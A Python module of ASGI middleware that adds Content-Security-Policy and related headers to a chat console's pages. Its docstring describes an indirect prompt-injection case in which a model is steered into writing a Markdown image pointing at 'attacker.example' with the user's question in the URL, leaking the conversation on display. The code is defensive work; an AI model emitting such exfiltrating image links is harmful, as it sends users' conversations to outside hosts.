"""What a console page may load: its own origin only, for anything fetched without a click.

A chat answer is Markdown from a model, and a model can be steered by a document it was given
(indirect prompt injection) into writing ``![chart](https://attacker.example/p.png?q=<what the
user asked>)``. DOMPurify keeps such an image (it stops scripts, not fetches), so the browser
would send the conversation to that host the moment the answer is shown, with no click. The
Content-Security-Policy below lets images, media and fonts come only from the console itself
(and ``data:`` / ``blob:`` URLs, which fetch nothing: generated images are shown as ``data:``),
so a remote image in an answer stays a broken image and is never requested. A script may
connect only to the console's own origin (``connect-src``: fetch, XHR, WebSocket, beacons), so
a script that ever slipped into a page could not send what it reads to another host that way.
Where scripts come from is not restricted here: NiceGUI's pages need inline ones and ``eval``,
and DOMPurify already removes scripts from answers. Links still work; following one is the
user's choice, and the Referrer-Policy keeps the console's address out of what the other site
is told. No other site may show a
console page in a frame (clickjacking): ``frame-ancestors 'none'`` and ``X-Frame-Options``.
"""

from __future__ import annotations

from starlette.types import ASGIApp, Message, Receive, Scope, Send

CONTENT_SECURITY_POLICY = (
    "img-src 'self' data: blob:; media-src 'self' data: blob:; font-src 'self' data:; "
    "connect-src 'self'; object-src 'none'; base-uri 'self'; frame-ancestors 'none'"
)
PAGE_HEADERS = (
    (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    (b"referrer-policy", b"same-origin"),
    (b"x-content-type-options", b"nosniff"),
    # frame-ancestors above says it for current browsers; older ones read only this header.
    (b"x-frame-options", b"DENY"),
)


class PagePolicy:
    """ASGI middleware: adds ``PAGE_HEADERS`` to every HTML response (the console's pages)."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message: Message) -> None:
            if message["type"] == "http.response.start" and _is_html(message):
                present = {name.lower() for name, _ in message.get("headers", [])}
                extra = [(name, value) for name, value in PAGE_HEADERS if name not in present]
                message["headers"] = [*message.get("headers", []), *extra]
            await send(message)

        await self.app(scope, receive, send_with_policy)


def _is_html(message: Message) -> bool:
    for name, value in message.get("headers", []):
        if name.lower() == b"content-type":
            return value.lower().startswith(b"text/html")
    return False
